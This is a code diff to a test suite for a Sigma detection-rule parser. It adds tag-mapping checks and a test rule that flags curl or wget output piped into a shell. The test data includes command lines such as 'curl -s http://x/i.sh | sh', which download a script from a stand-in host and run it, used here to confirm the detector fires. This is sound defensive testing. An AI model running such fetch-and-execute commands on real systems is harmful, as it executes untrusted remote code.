@@ -398,7 +398,7 @@ describe('Sigma rules: logsource, alerts and limits', () => {
       ruleName: 'Test rule',
       severity: 'high',
       riskScore: 75,
-      tags: ['attack:T1552.004', 'attack:TA0006', 'attack:credential_access', 'atlas:AML.T0051'],
+      tags: ['attack:T1552.004', 'attack:TA0006', 'attack:TA0006', 'atlas:AML.T0051'],
     });
     expect(set.rules[0]?.sigma).toEqual({
       falsepositives: ['none known'],
@@ -406,6 +406,8 @@ describe('Sigma rules: logsource, alerts and limits', () => {
       status: undefined,
     });
     expect(ourTag('car.2013-05-004')).toBe('car:2013-05-004');
+    expect(ourTag('detection.threat_hunting')).toBe('detection:threat_hunting');
+    expect(ourTag('attack.command_and_control')).toBe('attack:TA0011');
   });
 
   it('bounds documents per file, condition length and nesting', () => {
@@ -734,5 +736,55 @@ detection:
       const id = /id: (\S+)/.exec(example)![1];
       expect(Array.isArray(set) ? set : set.rules.map((rule) => rule.id)).toContain(id);
     }
+  });
+});
+
+describe('a rule written as SigmaHQ writes them', () => {
+  it('loads (related, author, dates, tactic tags, list of maps, all of / 1 of) and matches', () => {
+    const set = load(`
+title: Suspicious Curl Download Piped To Shell
+id: 8c6e3bd4-0d5f-4b61-9e30-5a2f1c3e9a77
+related:
+    - id: 1f1a2c3b-aaaa-4bbb-8ccc-123456789abc
+      type: similar
+status: experimental
+description: Detects curl or wget output piped into a shell
+references:
+    - https://example.org/curl-pipe
+author: someone
+date: 2024-01-01
+modified: 2024-02-01
+tags:
+    - attack.execution
+    - attack.t1059.004
+    - detection.threat_hunting
+logsource:
+    category: process_creation
+    product: clawdstrike
+detection:
+    selection_tool:
+        - Image|endswith:
+              - '/curl'
+              - '/wget'
+        - CommandLine|contains:
+              - 'curl '
+              - 'wget '
+    selection_pipe:
+        CommandLine|contains:
+            - '| sh'
+            - '|sh'
+            - '| bash'
+    filter_main_local:
+        CommandLine|contains: 'localhost'
+    condition: all of selection_* and not 1 of filter_main_*
+falsepositives:
+    - Installers
+level: high
+`);
+    if (Array.isArray(set)) throw new Error(set.join('\n'));
+    expect(set.rules[0]?.tags).toEqual(['attack:TA0002', 'attack:T1059.004', 'detection:threat_hunting']);
+    expect(run(set, [command('curl -s http://x/i.sh | sh')])).toHaveLength(1);
+    expect(run(set, [command('curl -s http://localhost/i.sh | sh')])).toHaveLength(0);
+    expect(run(set, [command('curl -s http://x/i.sh')])).toHaveLength(0);
   });
 });
